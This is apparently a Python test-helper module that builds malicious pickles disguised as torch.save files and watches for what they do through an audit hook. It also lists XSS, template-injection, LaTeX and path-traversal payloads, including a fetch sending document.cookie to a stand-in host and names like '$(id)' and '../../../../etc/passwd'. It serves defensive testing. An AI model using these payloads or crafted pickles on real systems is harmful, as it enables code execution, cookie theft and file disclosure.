"""What somebody might put into a file to have it executed, and a watch that notices if it is."""

import io
import pickle
import re
import struct
import sys
import warnings
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager

GADGETS = re.findall(
    r"\S+",
    """
    os.system posix.system os.popen os.execv os.remove os.rename os.putenv nt.system subprocess.Popen
    subprocess.run subprocess.call subprocess.check_output subprocess.getoutput builtins.eval
    builtins.exec builtins.compile builtins.open builtins.getattr builtins.setattr builtins.__import__
    builtins.apply __builtin__.eval __main__.__dict__ sys.modules sys.settrace sys.exit
    importlib.import_module importlib.reload runpy.run_path runpy.run_module pkgutil.resolve_name
    pickle.loads pickle.Unpickler _pickle.loads marshal.loads shelve.open dill.loads cloudpickle.loads
    joblib.load types.FunctionType types.CodeType functools.partial functools.reduce
    operator.attrgetter operator.methodcaller itertools.starmap copyreg._reconstructor codecs.open
    io.open pathlib.Path.unlink shutil.rmtree shutil.copy socket.create_connection
    urllib.request.urlopen http.client.HTTPConnection ftplib.FTP smtplib.SMTP webbrowser.open pty.spawn
    pdb.run bdb.Bdb.run timeit.timeit cProfile.run profile.run trace.Trace code.interact ctypes.CDLL
    ctypes.cdll.LoadLibrary cffi.FFI multiprocessing.Process threading.Thread asyncio.run
    logging.config.listen logging.config.dictConfig tempfile.mktemp platform.popen commands.getoutput
    torch.load torch.hub.load torch.jit.load torch.ops.load_library torch.utils.cpp_extension.load
    torch.serialization.load torch.storage._load_from_bytes torch.distributed.rpc.remote numpy.load
    numpy.f2py.compile lightning.pytorch.trainer.Trainer transformers.pipeline datasets.load_dataset
    pip._internal.main ablations.runs.worker.serve lightning_modules.plugins.recall
    """,
)
"""Functions that do harm when a pickle calls them, as module and name; some are of other Pythons."""


def _string(text: str) -> bytes:
    return pickle.BINUNICODE + struct.pack("<I", len(text)) + text.encode()


def pickles(name: str, argument: str) -> Iterator[tuple[str, bytes]]:
    """Yield the ways in which a pickle can call a function with one argument, by their opcodes."""
    module, _, attribute = name.rpartition(".")
    plain = pickle.GLOBAL + f"{module}\n{attribute}\n".encode()
    stacked = _string(module) + _string(attribute) + pickle.STACK_GLOBAL
    arguments = pickle.MARK + _string(argument) + pickle.TUPLE
    yield "GLOBAL REDUCE", b"\x80\x02" + plain + arguments + pickle.REDUCE + pickle.STOP
    yield "STACK_GLOBAL REDUCE", b"\x80\x04" + stacked + arguments + pickle.REDUCE + pickle.STOP
    instance = pickle.INST + f"{module}\n{attribute}\n".encode()
    yield "INST", b"\x80\x02" + pickle.MARK + _string(argument) + instance + pickle.STOP
    yield "OBJ", b"\x80\x02" + pickle.MARK + plain + _string(argument) + pickle.OBJ + pickle.STOP
    yield "NEWOBJ", b"\x80\x02" + plain + arguments + pickle.NEWOBJ + pickle.STOP
    state = plain + pickle.EMPTY_TUPLE + pickle.REDUCE + _string(argument) + pickle.BUILD
    yield "BUILD", b"\x80\x02" + state + pickle.STOP


def archive(content: bytes, *more: tuple[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    """Return a file as `torch.save` lays it out, with a pickle of one's own."""
    with warnings.catch_warnings(), zipfile.ZipFile(made := io.BytesIO(), "w", compression) as file:
        warnings.filterwarnings("ignore", message="Duplicate name")  # it is on purpose
        for name, part in (("data.pkl", content), ("byteorder", b"little"), ("version", b"3\n"), *more):
            file.writestr(f"archive/{name}", part)
    return made.getvalue()


HARM = (
    "os.system", "os.exec", "os.posix_spawn", "os.remove", "os.rename", "os.rmdir", "os.mkdir", "os.putenv",
    "subprocess.Popen", "socket.connect", "socket.getaddrinfo", "ctypes.dlopen", "shutil.", "urllib.Request",
    "webbrowser.open", "pty.spawn", "ftplib.", "smtplib.", "code.__new__", "marshal.loads", "pickle.find_class",
)  # fmt: skip

_at_watch: list[list[str]] = []


def _hook(event: str, arguments: tuple[object, ...]) -> None:
    if not _at_watch:
        return
    writes = event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
    if writes or event.startswith(HARM):
        _at_watch[-1].append(f"{event} {arguments}")


@contextmanager
def watched() -> Iterator[list[str]]:
    """Note every event of the block that a reader of data has no need of: processes, connections, files written.

    The interpreter tells them (PEP 578), whichever way they were reached.
    """
    if not getattr(sys, "_hostile_hook", False):
        sys.addaudithook(_hook)  # for good: no hook can be taken away
        sys._hostile_hook = True  # type: ignore[attr-defined]
    _at_watch.append([])
    try:
        yield _at_watch[-1]
    finally:
        _at_watch.pop()


SCRIPTS = ("alert(1)", "fetch('//e.example/'+document.cookie)", "top.location='//e.example'")
PAYLOADS = tuple(
    payload.replace("SCRIPT", script)
    for script in SCRIPTS
    for payload in (
        "<script>SCRIPT</script>",
        "</title></style></script><script>SCRIPT</script>",
        "<ScRiPt >SCRIPT</ScRiPt >",
        "<<script>script>SCRIPT<</script>/script>",
        "<img src=x onerror=SCRIPT>",
        '"><img src=x onerror=SCRIPT>',
        "' onmouseover='SCRIPT",
        '" autofocus onfocus="SCRIPT',
        "<svg onload=SCRIPT>",
        "<svg><script xlink:href='data:,SCRIPT'></script></svg>",
        "</svg><foreignObject><body onload=SCRIPT></foreignObject>",
        "<iframe srcdoc='<script>SCRIPT</script>'></iframe>",
        "<object data='javascript:SCRIPT'></object>",
        "<embed src='javascript:SCRIPT'>",
        "<form action='javascript:SCRIPT'><input type=submit></form>",
        "<base href='//e.example/'><a href='x'>SCRIPT</a>",
        "<meta http-equiv=refresh content='0;url=javascript:SCRIPT'>",
        "<link rel=stylesheet href='//e.example/SCRIPT'>",
        "<style>@import '//e.example/SCRIPT';</style>",
        "[SCRIPT](javascript:SCRIPT)",
        "![SCRIPT](//e.example/x.png)",
        "<!--SCRIPT--!><img src=x onerror=SCRIPT>-->",
        "&lt;script&gt;SCRIPT&lt;/script&gt;",
        "&#60;script&#62;SCRIPT&#60;/script&#62;",
        "{{ cycler.__init__.__globals__.os.system('SCRIPT') }}",
        "{% for x in ().__class__.__base__.__subclasses__() %}SCRIPT{% endfor %}",
        "\\input{/etc/passwd} \\immediate\\write18{SCRIPT}",
        "]]><script>SCRIPT</script>",
        "+ADw-script+AD4-SCRIPT+ADw-/script+AD4-",
        "<scr\x00ipt>SCRIPT</scr\x00ipt>",
    )
)
"""What a page must show as text: scripts, addresses, templates, commands of LaTeX, as they may be written."""

_OUTSIDE = (
    "..", ".", "/", "../x", "../../../../etc/passwd", "a/../../x", "/etc/passwd", "//e.example/x", "~", "~root/x",
    "..\\x", "C:\\x", "C:x", "\\\\e.example\\x", "file:///etc/passwd", "http://e.example/x", "%2e%2e%2fx",
    "..%c0%afx", "....//x", "..;/x", "a/b", "a\\b", "./x", "x/.", "x/..", "-rf", "--help", "$HOME", "`id`",
    "$(id)", ";id", "|id", "&id", ">x", "*", "?", "[a]", "{a,b}", "!x", "#x", "a b", " a", "a ", "a\n", "a\r\nb",
)  # fmt: skip
_LOOKS = (
    "\u2024\u2024/x", "\uff0e\uff0e/x", "a\u2215b", "a\u2044b", "\uff0fx", "\u202egpj.x", "\u200bx", "\ufeffx",
    "\u0430rm", "a\u0300", "\U0001f600", "\u2028", "\x7f", "\x1b[2J", "\x00", "a\x00.yaml", "\x08", "\t",
)  # fmt: skip
_RESERVED = tuple(
    f"{name}{end}" for name in ("CON", "NUL", "aux", "COM1", "lpt9") for end in ("", ".txt", ":", "/x")
)
_HIDDEN = (
    ".git", ".ssh/authorized_keys", "...", ".hidden", "lock", "runs", "tokens", "plan.json", "spec.yaml", "",
)  # fmt: skip
_LONG = (
    *tuple("a" * length for length in (200, 201, 255, 256, 4096, 100000)),
    "../" * 3000,
    "a/" * 2000,
    "é" * 130,
)
NAMES = tuple(dict.fromkeys((*_OUTSIDE, *_LOOKS, *_RESERVED, *_HIDDEN, *_LONG)))
"""Names that lead out of a folder, look like others, mean something to a shell or a system, or are too long."""
